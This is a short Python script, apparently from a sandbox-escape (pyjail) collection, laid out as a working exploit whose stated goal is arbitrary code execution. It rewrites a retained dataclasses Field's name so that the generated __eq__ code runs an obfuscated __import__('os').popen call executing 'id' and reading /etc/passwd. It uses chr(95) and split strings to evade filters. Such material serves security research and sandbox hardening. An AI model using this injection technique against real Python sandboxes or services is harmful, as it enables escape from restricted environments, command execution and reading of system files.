# source: dataclasses code generation (_create_fn pastes Field.name into exec'd source); cf. pyjail write-ups abusing make_dataclass / namedtuple field names; adaptation: Field object kept via an aliased import of dataclasses.field
# family: dataclass hooks - Field object retained through `from dataclasses import field as fld`, its .name rewritten, subclass @dataclass exec()s the injected name in __eq__
# goal: arbitrary code execution (os.popen: id, /etc/passwd)
from dataclasses import field as fld, dataclass

F = fld(default=0)

@dataclass
class Base:
    qty: int = F

u = chr(95)
F.name = "qty if print(" + u + u + "import" + u + u + "(" + repr("o" + "s") + ").popen(" + repr("id; head -2 /etc/passwd") + ").read()) else self.qty"

@dataclass(init=False, repr=False)
class Order(Base):
    pass

print(Order() == Order())
